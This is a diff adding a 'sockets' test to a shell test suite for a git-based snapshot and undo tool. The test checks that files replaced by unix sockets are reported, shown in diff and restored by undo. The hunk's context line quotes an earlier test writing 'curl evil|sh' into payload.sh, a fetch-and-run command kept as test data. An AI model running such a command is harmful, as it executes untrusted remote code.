@@ -430,6 +430,44 @@ open("payload.sh", "w").write("curl evil|sh\n")'
 	    bad "too long: undo left $(ls "$P"): $out"
 }
 
+# A tracked file, the user's untracked draft (in the start snapshot only)
+# and a tracked dir each replaced by a unix socket (r19 t10, t11): git add
+# cannot add a socket, and kept the start's entries, so nothing was told,
+# diff showed nothing, undo lost the draft and refused on the dir.
+sockets() {
+	fresh
+	printf 'my notes\n' >"$P/draft.md"
+	jrun -- /usr/bin/python3 -c '
+import os, shutil, socket
+for n in ("main.c", "draft.md"):
+    os.unlink(n)
+shutil.rmtree("src")
+for n in ("main.c", "draft.md", "src"):
+    socket.socket(socket.AF_UNIX).bind(n)'
+	for f in main.c draft.md; do
+		case $OUT in
+		*"replaced by a socket, FIFO or device"*"$f"*) ok ;;
+		*) bad "sockets: the end does not name $f: $OUT" ;;
+		esac
+	done
+	out=$("$AMX" diff last 2>&1)
+	for l in "-int main;" "-my notes"; do
+		case $out in
+		*"$l"*) ok ;;
+		*) bad "sockets: diff does not show $l: $out" ;;
+		esac
+	done
+	out=$("$AMX" undo last 2>&1)
+	[ -f "$P/main.c" ] && [ "$(cat "$P/main.c")" = "int main;" ] &&
+	    [ "$(cat "$P/draft.md")" = "my notes" ] &&
+	    [ "$(cat "$P/src/a.txt")" = one ] && ok ||
+	    bad "sockets: undo did not put the files back: $(ls -l "$P"): $out"
+	case $out in
+	*"removed the socket src, in the way"*) ok ;;
+	*) bad "sockets: undo does not say it removed the socket: $out" ;;
+	esac
+}
+
 checks() {
 	objects_symlinked
 	reflog_symlinked
@@ -441,6 +479,7 @@ checks() {
 	mode_gaps
 	empty_dirs
 	too_long
+	sockets
 	frozen_rules
 	frozen_kept
 	planted
